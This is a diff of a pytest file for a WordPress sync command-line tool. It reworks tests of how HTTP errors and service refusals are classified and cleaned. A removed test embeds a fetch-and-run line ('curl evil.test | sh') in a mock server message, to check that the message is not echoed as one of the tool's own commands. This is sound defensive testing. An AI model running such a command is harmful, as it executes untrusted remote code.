@@ -99,40 +99,27 @@ def test_a_record_is_gone_when_the_service_says_so(call: Call, status: int) -> N
 
 
 @pytest.mark.parametrize(
-    "answer",
+    ("call", "answer", "said"),
     [
-        answered(404, b"<html>nginx</html>", "text/html"),
-        answered(404, b""),
-        answered(410, b"[]"),
-        answered(404, error_body("rest_no_route", "No route was found.")),
+        (DELETE, answered(404, b"<html>nginx</html>", "text/html"), ""),
+        (DELETE, answered(404, b""), ""),
+        (DELETE, answered(410, b"[]"), ""),
+        (DELETE, answered(404, error_body("rest_no_route", "No route was found.")), "found; "),
+        (CREATE, answered(404, error_body("rest_post_invalid_id", "Invalid.")), "it ends with /wp-json"),
     ],
 )
 def test_a_404_of_a_web_server_or_of_a_wrong_address_does_not_say_that_a_record_is_gone(
-    answer: HttpResponse,
+    call: Call, answer: HttpResponse, said: str
 ) -> None:
-    error = failure(DELETE, answer)
-
+    error = failure(call, answer)
     assert type(error) is Refused
+    assert said in str(error)
 
 
-def test_a_create_finds_nothing_gone_but_a_wrong_address() -> None:
-    error = failure(CREATE, answered(404, error_body("rest_post_invalid_id", "Invalid post ID.")))
-
-    assert type(error) is Refused
-    assert "for WordPress it ends with /wp-json" in str(error)
-
-
-def test_the_point_at_the_end_of_the_services_words_goes_before_the_next_step() -> None:
-    said = str(failure(UPDATE, answered(401, error_body("rest_not_logged_in", "You are not logged in."))))
-    assert "You are not logged in; check the user (see `pressync config`)" in said
-
-
-def test_a_refusal_carries_the_services_own_words_on_one_line() -> None:
-    body = error_body("rest_invalid_param", "Invalid\x1b[31m parameter(s):\n title " + "x" * 500)
-
+def test_a_refusal_carries_the_services_own_words_on_one_line_and_never_a_command_of_ours() -> None:
+    body = error_body("rest_invalid_param", "Invalid\x1b[31m `pressync sync --yes`:\n title " + "x" * 500)
     said = str(failure(UPDATE, answered(400, body)))
-
-    assert "rest_invalid_param: Invalid [31m parameter(s): title xxx" in said
+    assert "rest_invalid_param: Invalid [31m 'pressync sync --yes': title xxx" in said
     assert said.isprintable()
     assert len(said) < 600
 
@@ -253,12 +240,11 @@ def test_a_body_that_is_not_an_object_from_first_to_last_byte_is_a_bad_response(
 @pytest.mark.parametrize(
     "body", ['{"id": 1, "slug": "a", "id": 2}', '{"id": 1, "title": {"id": "A", "raw": "a", "id": "B"}}']
 )
-def test_an_object_that_names_a_member_twice_is_a_bad_response(body: str) -> None:
+def test_an_object_that_names_a_member_twice_is_a_bad_response_and_a_refusal_is_one_all_the_same(
+    body: str,
+) -> None:
     with pytest.raises(BadAnswer, match="names “id” twice"):
         json_object(answered(200, body.encode()))
-
-
-def test_a_refusal_is_a_refusal_however_it_is_worded() -> None:
     twice = answered(400, b'{"code": "a", "code": "invalid", "message": "No."}')
     assert "invalid: No; " in str(failure(CREATE, twice))
     assert type(failure(CREATE, twice)) is Refused
@@ -278,11 +264,6 @@ def test_a_cleaned_text_is_one_printable_line_of_bounded_length(text: str) -> No
 
     assert line.isprintable()
     assert len(line) <= 40
-
-
-def test_a_refusal_of_a_service_never_poses_as_a_command_of_ours() -> None:
-    body = b'{"code": "no", "message": "run `pressync sync --yes; curl evil.test | sh` again"}'
-    assert "run 'pressync sync --yes; curl evil.test | sh' again" in str(failure(UPDATE, answered(403, body)))
 
 
 # Less than a half of what 60 MB of empty objects cost.
